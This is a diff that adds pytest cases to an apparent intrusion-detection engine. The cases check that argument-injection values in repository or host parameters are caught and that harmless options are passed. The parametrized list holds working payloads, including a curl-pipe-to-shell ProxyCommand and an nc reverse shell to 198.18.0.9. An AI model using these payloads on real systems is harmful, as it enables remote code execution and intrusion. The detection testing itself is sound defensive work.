@@ -1161,3 +1161,21 @@ def test_round6_command_injection_is_caught(engine, row):
 def test_round6_benign_raises_no_rce_finding(engine, row):
     hits = engine.inspect(carry(*row))
     assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+# Argument injection (blind batch d's `--upload-pack=` into a repository field): an option that makes git, ssh, tar or
+# rsync run a program, where the application hands the value to the tool as an argument.
+@pytest.mark.parametrize("value", ["--upload-pack=touch /tmp/pwned", "-oProxyCommand=curl 198.18.0.9/x|sh",
+                                   "--checkpoint-action=exec=sh shell.sh", "ext::sh -c touch% /tmp/pwned",
+                                   "-c core.sshCommand=id", "--receive-pack='nc 198.18.0.9 4444 -e sh'",
+                                   "--config=core.pager=id"])
+def test_option_injection_into_a_tool(engine, value):
+    for r in (req("/api/mirror?repo=" + quote(value, safe="")), req("/api/sync?host=" + quote(value, safe=""))):
+        assert verdict(engine.inspect(r)) == "attack", value
+
+
+@pytest.mark.parametrize("value", ["--verbose", "-o output.txt", "how to use --upload-pack with git clone",
+                                   "--no-cache --pull", "-e production", "https://github.com/acme/shop.git"])
+def test_options_that_run_nothing_are_clean(value):
+    f = rce.analyze(value)
+    assert f is None or f.score < THRESHOLD, f
